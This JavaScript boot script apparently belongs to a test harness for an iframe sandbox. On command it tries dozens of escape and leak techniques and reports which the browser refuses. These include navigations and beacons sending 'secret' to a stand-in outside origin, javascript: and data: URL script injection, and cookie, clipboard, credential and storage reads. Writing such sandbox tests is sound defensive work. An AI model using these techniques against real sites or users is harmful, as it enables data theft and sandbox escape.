// A boot script that stands in the place of the frame's broker: as if somebody had taken the main thread of the frame
// over, which evaluates nothing and so gives nobody the means. What holds then are the opaque origin, the sandbox
// attribute, the frame's own policy and the one it inherits from the page. One attack a frame: some of them end it.
(() => {
  const text = (value) => {
    try {
      return String(value).slice(0, 120);
    } catch {
      return 'something without words';
    }
  };
  const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const nothing = async (milliseconds = 600) => {
    await wait(milliseconds);
    throw new Error('nothing happened');
  };
  const element = (name, properties) => {
    const made = Object.assign(document.createElement(name), properties);
    document.documentElement.append(made);
    return made;
  };
  const loads = (name, properties) =>
    new Promise((resolve, reject) => {
      element(name, {
        ...properties,
        onload: () => resolve('loaded'),
        onerror: () => reject(new Error('error event')),
      });
    });

  const attacks = {
    'parent-document': () => text(parent.document.body.innerHTML),
    'parent-storage': () => text(parent.localStorage.length),
    'parent-function': () => text(parent.eval('1')),
    'top-navigation': async ({ stranger }, hit) => {
      top.location.href = stranger + hit;
      await nothing();
    },
    'top-navigation-to-script': async () => {
      top.location.href = 'javascript:document.title="taken"';
      await nothing();
    },
    'top-fragment': async () => {
      top.location.hash = '#taken';
      await nothing();
    },
    'own-navigation-stranger': async ({ stranger }, hit) => {
      location.href = `${stranger}${hit}?secret`;
      await nothing();
    },
    'own-navigation-home': async ({ home }, hit) => {
      location.href = `${home}${hit}?secret`;
      await nothing();
    },
    'own-navigation-data': async () => {
      // In two pieces, or this very script would end here.
      location.href = `data:text/html,<script>parent.postMessage("taken","*")<${'/script>'}`;
      await nothing();
    },
    'own-navigation-script': async () => {
      location.href = 'javascript:parent.postMessage("taken","*")';
      await nothing();
    },
    'meta-refresh': async ({ stranger }, hit) => {
      element('meta', { httpEquiv: 'refresh', content: `0; url=${stranger}${hit}` });
      await nothing(1_200);
    },
    popup: ({ stranger }, hit) => {
      if (open(stranger + hit) === null) throw new Error('no window');
      return 'a window';
    },
    'link-click': async ({ stranger }, hit) => {
      element('a', { href: stranger + hit, target: '_blank' }).click();
      element('a', { href: stranger + hit, target: '_top' }).click();
      await nothing();
    },
    'download-click': async ({ stranger }, hit) => {
      element('a', { href: stranger + hit, download: 'x.exe' }).click();
      element('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }).click();
      await nothing();
    },
    form: async ({ stranger }, hit) => {
      element('form', { action: stranger + hit, method: 'post' }).submit();
      await nothing();
    },
    image: ({ stranger }, hit) => loads('img', { src: stranger + hit }),
    'style-sheet': ({ stranger }, hit) => loads('link', { rel: 'stylesheet', href: stranger + hit }),
    prefetch: ({ stranger }, hit) => loads('link', { rel: 'prefetch', href: stranger + hit }),
    preconnect: async ({ stranger }) => {
      element('link', { rel: 'preconnect', href: stranger });
      await nothing(1_000);
    },
    speculation: async ({ stranger }, hit) => {
      element('script', {
        type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [stranger + hit] }] }),
      });
      await nothing(1_000);
    },
    'script-stranger': ({ stranger }, hit) => loads('script', { src: stranger + hit }),
    'script-home': ({ home }, hit) => loads('script', { src: home + hit }),
    'script-text': async () => {
      element('script', { textContent: 'parent.postMessage("taken","*")' });
      await nothing();
    },
    'handler-attribute': async () => {
      const made = document.createElement('img');
      made.setAttribute('onerror', 'parent.postMessage("taken","*")');
      made.setAttribute('src', 'data:,');
      document.documentElement.append(made);
      await nothing();
    },
    eval: () => globalThis['ev'.concat('al')]('1 + 1'),
    'frame-stranger': async ({ stranger }, hit) => {
      element('iframe', { src: stranger + hit });
      await nothing(900);
    },
    'frame-home': async ({ home }, hit) => {
      element('iframe', { src: home + hit });
      await nothing(900);
    },
    object: async ({ stranger }, hit) => {
      element('object', { data: stranger + hit });
      element('embed', { src: stranger + hit });
      await nothing(900);
    },
    media: ({ stranger }, hit) => loads('video', { src: stranger + hit }),
    fetch: ({ home }, hit) => fetch(home + hit),
    websocket: ({ stranger }, hit) =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(stranger.replace('http', 'ws') + hit);
        socket.onopen = () => resolve('open');
        socket.onclose = () => reject(new Error('closed'));
      }),
    beacon: async ({ stranger }, hit) => {
      navigator.sendBeacon(stranger + hit, 'secret');
      await nothing();
    },
    webrtc: async ({ udp }) => {
      if (typeof RTCPeerConnection === 'undefined') throw new Error('absent');
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
      await wait(1_500);
      throw new Error('no datagram is known to have left');
    },
    cookie: () => {
      // An engine may give an empty text in place of an error.
      if (document.cookie === '') throw new Error('no cookies');
      return text(document.cookie);
    },
    'local-storage': () => localStorage.length,
    'indexed-db': () =>
      new Promise((resolve, reject) => {
        const opening = indexedDB.open('interleave');
        opening.onsuccess = () => resolve('open');
        opening.onerror = () => reject(opening.error);
      }),
    caches: async () => text((await caches.keys()).join()),
    'service-worker': ({ home }, hit) => navigator.serviceWorker.register(home + hit),
    broadcast: async () => {
      new BroadcastChannel('interleave-store').postMessage({ type: 'draft-saved', forged: true });
      await nothing();
    },
    alert: async () => {
      alert('taken');
      confirm('taken');
      print();
      await nothing();
    },
    history: async () => {
      history.back();
      history.go(-2);
      await nothing();
    },
    fullscreen: () => document.documentElement.requestFullscreen(),
    geolocation: () =>
      new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
    camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
    clipboard: () => navigator.clipboard.readText(),
    credentials: () => navigator.credentials.get({ password: true }),
    notification: async () => {
      const state = await Notification.requestPermission();
      if (state !== 'granted') throw new Error(state);
      return state;
    },
    'storage-access': () => document.requestStorageAccess(),
    'second-handshake': async () => {
      for (let count = 0; count < 1_000; count += 1) parent.postMessage('sandbox-ready', '*');
      await nothing();
    },
    'take-focus': async () => {
      parent.focus();
      element('input', { autofocus: true }).focus();
      await nothing();
    },
  };

  addEventListener('message', (event) => {
    const port = event.ports[0];
    if (event.source !== parent || event.data !== 'sandbox-port' || !port) return;
    port.onmessage = async ({ data: { id, site } }) => {
      port.postMessage({ began: id });
      try {
        port.postMessage({ outcome: `reached: ${text(await attacks[id](site, `hit/frame-${id}`))}` });
      } catch (error) {
        port.postMessage({ outcome: `refused: ${error?.name ?? 'error'}: ${text(error?.message)}` });
      }
    };
  });
  parent.postMessage('sandbox-ready', '*');
})();
